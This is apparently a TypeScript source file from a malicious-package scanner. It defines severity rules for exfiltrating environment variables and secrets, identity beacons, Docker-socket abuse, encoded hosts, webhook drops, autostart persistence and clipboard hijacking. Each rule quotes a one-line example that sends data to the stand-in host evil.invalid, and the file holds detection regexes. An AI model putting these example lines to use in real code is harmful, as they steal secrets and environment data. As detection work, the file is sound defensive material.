import { IDENTITY, WHEN, describeLabels, isUnheard, type Combination } from './combination.js';
import { count, isPure, type Label } from '../values/labels.js';
import { isUnasked } from '../values/reach.js';
import {
  hasRandomLabel,
  isAccount,
  isCallback,
  isCollecting,
  isOpenAccount,
} from '../facts/collecting-places.js';
import { CARRIERS, COPIERS } from '../facts/programs.js';
import { commandTraits, isHostile } from '../facts/command-traits.js';
import type { Severity } from '../../model/finding.js';
import type { Sighting } from '../machine/sighting.js';
import { ACCOUNT_HOST, isSingleRequest } from '../facts/sinks.js';

const STOLEN: readonly Label[] = ['environment', 'secret', 'capture', 'intercepted', 'process-output'];
/** What goes to no place at all without being asked. */
const NEVER_TOLD: readonly Label[] = ['environment', 'capture'];
/** An account of a crypto-currency, as a text of its own. */
const PAYMENT_ADDRESS = /^(?:bc1[a-z0-9]{25,60}|0x[0-9a-fA-F]{40}|[13LDT][1-9A-HJ-NP-Za-km-z]{25,34})$/;

/** Calls that put what they fetch into a file. */
const DOWNLOADS = /(?:retrieve|wget\.download)$/;

/** An address with a piece that is not known. */
const COMPOSED = /https?:\/\/\S{0,500}\uFFFC/i;

/** A path, and on the next line what is written there. */
const PROSE = /^[^\n]*\.(?:mdc?|rst|txt|cursorrules|windsurfrules)\n/i;
/** Letters that nobody sees, so many that they say something. */
const INVISIBLE = /[\u200B-\u200F\u2060-\u2064\u{E0000}-\u{E007F}]{24,}/u;

/** Interfaces of the clouds that give a machine its credentials; hosts that anybody can rent there are none. */
const CLOUDS =
  /^(?:(?:storage|secretmanager|iam|iamcredentials|sts|oauth2|www|compute|bigquery|pubsub|logging|monitoring|cloudkms|cloudresourcemanager)\.googleapis\.com|(?:sts|ec2|iam|ssm|kms|sqs|sns|logs|monitoring|secretsmanager|dynamodb)(?:\.[a-z]+-[a-z]+-\d)?\.amazonaws\.com|(?:management|vault)\.azure\.(?:com|net)|graph\.windows\.net|login\.microsoftonline\.com|accounts\.google\.com|(?:[\w-]+\.)*docker\.(?:com|io)|(?:[\w-]+\.)*aws\.amazon\.com|(?:portal\.sso|oidc|cognito-id\w+)\.[a-z]+-[a-z]+-\d\.amazonaws\.com)$/;

/** The credentials of a cloud go to that cloud. */
const isOwnCloud = ({ host }: Sighting): boolean => CLOUDS.test(host ?? '');

/** Paths of the interface of Docker, which others follow, and the sockets it is spoken through. */
const ENGINE =
  /(?:^|\s|:)\/(?:v[\d.]+\/)?containers\/(?:create\b|\S{1,200}\/(?:start|exec)\b)|\b(?:docker|podman|containerd)\.sock\b/;

const DOMAIN = /[\w-]{1,63}\.[a-z]{2,}\b/i;

/** A request to a literal host, or unasked to one that is hidden; a program that carries its arguments to one. */
function leaves({ behaviour, host, text, isHidden, reach }: Sighting): boolean {
  if (behaviour === 'contacts') return host !== undefined || (isHidden === true && isUnasked(reach));
  if (behaviour !== 'starts-process' || text === undefined) return false;
  if (COPIERS.test(text) && host !== undefined) return true;
  return CARRIERS.test(text) && (host !== undefined || DOMAIN.test(text));
}

/** What code is given, or finds, to work with. */
const GIVEN: readonly Label[] = ['parameter', 'file', 'user-file', 'credential', 'secret', 'environment'];

/** How severe it is that data leaves while nobody asked for anything. */
function sentUnasked({ labels, name }: Sighting, isStolen: boolean): Severity | undefined {
  // What stands in a folder is told to nobody by a package that is merely installed.
  if (isStolen) return 'CRITICAL';
  // The version that is fetched may be told by what lies there already.
  if (labels.has('searched')) return DOWNLOADS.test(name) ? 'HIGH' : 'CRITICAL';
  return labels.has('user-file') ? 'HIGH' : undefined;
}

/** How severe it is that data leaves in a function that somebody calls: for what it is for, or on the side. */
function sentWhenCalled(sighting: Sighting, isStolen: boolean): Severity | undefined {
  const { labels, name, text } = sighting;
  if (!isStolen && !labels.has('user-file')) return undefined;
  const isAside = isUnheard(sighting);
  // Nobody is handed the whole environment in a parameter: that it goes along is the code's own doing.
  if (labels.has('environment') && labels.has('parameter') && (isCollecting(text ?? '') || isAside))
    return 'CRITICAL';
  // A file of secrets that is found by its name goes out, and nothing is wanted back.
  const isOfSecrets = labels.has('secret') && labels.has('secret-path') && !isOwnCloud(sighting);
  if (isOfSecrets && isAside) return 'CRITICAL';
  // Files that a search came upon: nobody said which, and nobody hears of it.
  if (labels.has('user-file') && labels.has('searched') && isAside)
    return labels.has('parameter') ? 'HIGH' : 'CRITICAL';
  if (labels.has('capture') && isAside) return 'CRITICAL';
  if (labels.has('parameter') && isOfSecrets && sighting.isDropped === true) return 'HIGH';
  // What a store of passwords gave goes out, or what other code handed on, and nothing is wanted back.
  const isGiven =
    (labels.has('secret') && isAside && isSingleRequest(name) && !isOwnCloud(sighting)) ||
    (labels.has('intercepted') && isPure(labels));
  const otherwise = isGiven && sighting.isDropped === true ? 'HIGH' : 'LOW';
  if (labels.has('parameter') || !isStolen) return otherwise;
  if (labels.has('capture')) return 'HIGH';
  if (labels.has('environment') && sighting.isDropped === true) return 'CRITICAL';
  const isStrict =
    (isCallback(text ?? '') && (labels.has('decoded') || !isOpenAccount(text ?? ''))) ||
    (labels.has('environment') && isCollecting(text ?? '')) ||
    isOfSecrets;
  const isWhole = labels.has('environment') && (labels.has('hostname') || labels.has('username'));
  // Reporters of errors tell this too, and look at the answer of the service they are for.
  if (isStrict || (isWhole && sighting.isDropped === true)) return 'CRITICAL';
  return isWhole ? 'HIGH' : otherwise;
}

/** Data that leaves, and what stays behind. */
export const EXIT_COMBINATIONS: readonly Combination[] = [
  {
    doc: {
      id: 'stolen-data-sent',
      title: 'Sends secrets, the environment or command output to a fixed address',
      why: 'The environment of a build machine holds tokens and passwords. No package needs to send it, or your files, anywhere by itself.',
      remedy: 'Do not install the package. If it ran somewhere, change the secrets that machine could see.',
      example: 'requests.post("https://evil.invalid", json=dict(os.environ))',
      technique: 'T1041',
    },
    judge: (sighting) => {
      const { labels, reach } = sighting;
      const isStolen = count(labels, STOLEN) > 0 || (labels.has('user-file') && labels.has('searched'));
      // Where to is not told; nobody asked for it anyway.
      const isKept = labels.has('secret') && labels.has('secret-path');
      if (sighting.isAimless === true && isUnasked(reach) && (isKept || count(labels, NEVER_TOLD) > 0))
        return 'CRITICAL';
      if (!leaves(sighting)) return undefined;
      return isUnasked(reach) ? sentUnasked(sighting, isStolen) : sentWhenCalled(sighting, isStolen);
    },
    message: ({ name, reach, labels }) =>
      `${name} sends ${describeLabels(labels)} to a fixed address ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'identity-sent',
      title: 'Tells a fixed address who and where you are',
      why: 'A beacon with host name, user or folder tells an attacker which organisation has just installed the package.',
      remedy:
        'Do not install the package; look for a private package of the same name that should have been installed.',
      example: 'requests.get("https://evil.invalid/?h=" + socket.gethostname())',
      technique: 'T1082',
    },
    judge: (sighting) => {
      const { labels, reach } = sighting;
      const values = count(labels, IDENTITY);
      if (!leaves(sighting) || values === 0) return undefined;
      if (!isUnasked(reach)) return 'LOW';
      // A network answer sent along is, in beacons, the public address that was asked for before.
      return values >= 2 || labels.has('network') || labels.has('system') ? 'CRITICAL' : 'HIGH';
    },
    message: ({ name, reach, labels }) =>
      `${name} sends ${describeLabels(labels)} to a fixed address ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'container-started',
      title: 'Asks the container engine of the machine to start something, without being asked',
      why: 'Whoever may talk to the engine may start a container that holds the whole disk, as root.',
      remedy: 'Do not install the package. If it ran, look at the containers and images of the machine.',
      example:
        'connection.request("POST", "/containers/create", json.dumps({"HostConfig": {"Binds": ["/:/h"]}}))',
      technique: 'T1610',
    },
    judge: ({ behaviour, reach, text }) =>
      behaviour === 'contacts' && isUnasked(reach) && ENGINE.test(text ?? '') ? 'CRITICAL' : undefined,
    message: ({ name, reach }) => `${name} talks to the container engine ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'hidden-address-contacted',
      title: 'Contacts an address that it keeps hidden',
      why: 'An address is only encoded, or named in a header instead, so that nobody finds it by reading.',
      remedy: 'Do not install the package.',
      example: 'requests.get(base64.b64decode("aHR0cHM6Ly9ldmlsLmludmFsaWQ=").decode())',
      technique: 'T1027',
    },
    judge: ({ behaviour, labels, reach, host, isHidden, isDropped, isQuiet }) => {
      if (behaviour !== 'contacts' || host === undefined) return undefined;
      // Something is handed to an address that nobody is to know of, and nothing is wanted back.
      if (
        isHidden === true &&
        isDropped === true &&
        isQuiet === true &&
        GIVEN.some((label) => labels.has(label))
      )
        return 'CRITICAL';
      if (labels.has('parameter')) return undefined;
      if (!labels.has('decoded') && !labels.has('fronted')) return undefined;
      if (isUnasked(reach)) return 'CRITICAL';
      return isPure(labels) && !labels.has('network') ? 'MEDIUM' : 'LOW';
    },
    message: ({ name, reach }) => `${name} contacts a hidden address ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'drop-contacted',
      title: 'Posts to a collecting address without being asked',
      why: 'Chat webhooks, bot interfaces and request bins are where stolen data is collected, because anybody can open one.',
      remedy: 'Do not install the package. If it ran somewhere, change the secrets that machine could see.',
      example: 'requests.post("https://webhook.site.evil.invalid/…", data=found)',
      technique: 'T1567.004',
    },
    judge: (sighting) => {
      const address = `${sighting.text ?? ''} ${sighting.host ?? ''}`;
      if (!leaves(sighting)) return undefined;
      if (isAccount(address) || sighting.host === ACCOUNT_HOST) return 'CRITICAL';
      if (isCollecting(address)) return isUnasked(sighting.reach) ? 'CRITICAL' : 'LOW';
      const { host, reach } = sighting;
      return host !== undefined && isUnasked(reach) && hasRandomLabel(host) ? 'CRITICAL' : undefined;
    },
    message: ({ name, reach }) => `${name} posts to a collecting address ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'unasked-contact',
      title: 'Contacts a fixed address without being asked',
      why: 'Installing or importing a package should not talk to the network: the other side learns who did, and its answer is outside any check.',
      remedy: 'Ask the authors why; prefer a version that does not.',
      example: 'urllib.request.urlopen("https://evil.invalid/installed")',
      technique: 'T1071.001',
    },
    judge: (sighting) => {
      if (!leaves(sighting) || !isUnasked(sighting.reach)) return undefined;
      // Where a setting can send it elsewhere, or switch it off, it is no secret of the package.
      if (sighting.labels.has('setting')) return 'LOW';
      // Somewhere in the address stands what a caller gave: no signal that is the same for everybody.
      const isAside = sighting.isDropped === true && sighting.isQuiet === true;
      if (sighting.reach === 'import' && !isAside && COMPOSED.test(sighting.text ?? '')) return 'LOW';
      // A page shown to the user is a matter of taste, except where nobody expects one.
      return sighting.name.startsWith('webbrowser.') && sighting.reach !== 'install' ? 'LOW' : 'MEDIUM';
    },
    message: ({ name, reach }) => `${name} contacts a fixed address ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'autostart-written',
      title: 'Makes itself start again',
      why: 'Entries in autostart folders, shell profiles, cron, the registry or files of other programs keep code running after the package is removed.',
      remedy: 'Do not install the package; if it ran, look at the named place.',
      example: 'open(os.path.expanduser("~/.bashrc"), "a").write(line)',
      technique: 'T1547',
    },
    judge: ({ behaviour, labels, reach, host, text }) => {
      if (behaviour !== 'writes-autostart') return undefined;
      if (isUnasked(reach) || INVISIBLE.test(text ?? '')) return 'CRITICAL';
      // Prose for an assistant may tell how things are installed.
      if (isHostile(text ?? '')) return PROSE.test(text ?? '') ? 'MEDIUM' : 'CRITICAL';
      if (labels.has('network') && host !== undefined && !labels.has('parameter')) return 'CRITICAL';
      return labels.has('decoded') && isPure(labels) ? 'CRITICAL' : 'LOW';
    },
    message: ({ name, reach }) => `${name} writes to a place that starts programs ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'clipboard-replaced',
      title: 'Puts its own text into the clipboard',
      why: 'Who copies an address to send money to, and pastes another one, pays somebody else.',
      remedy: 'Do not install the package. If it ran, check the addresses of recent payments.',
      example: 'if re.match("0x[0-9a-f]{40}", paste()): copy("0x…")',
      technique: 'T1565.002',
    },
    judge: ({ behaviour, reach, text }) => {
      if (behaviour === 'starts-process' && isUnasked(reach))
        return commandTraits(text ?? '').has('fills-clipboard') ? 'CRITICAL' : undefined;
      if (behaviour !== 'writes-clipboard') return undefined;
      return isUnasked(reach) || PAYMENT_ADDRESS.test(text ?? '') ? 'CRITICAL' : undefined;
    },
    message: ({ name, reach }) => `${name} puts text into the clipboard ${WHEN[reach]}`,
  },
  {
    doc: {
      id: 'file-left-behind',
      title: 'Leaves a file outside its own folders when it is installed',
      why: 'A build writes into its own folders. A file in the home or root folder is how somebody shows, or remembers, that code ran.',
      remedy: 'Look at what is written, and why.',
      example: 'open(os.path.expanduser("~/owned"), "w").write("x")',
      technique: 'T1565.001',
    },
    judge: ({ behaviour, reach }) =>
      behaviour === 'writes-outside' && reach === 'install' ? 'MEDIUM' : undefined,
    message: ({ name, reach, text }) => `${name} writes ${text ?? 'a file'} ${WHEN[reach]}`,
  },
];
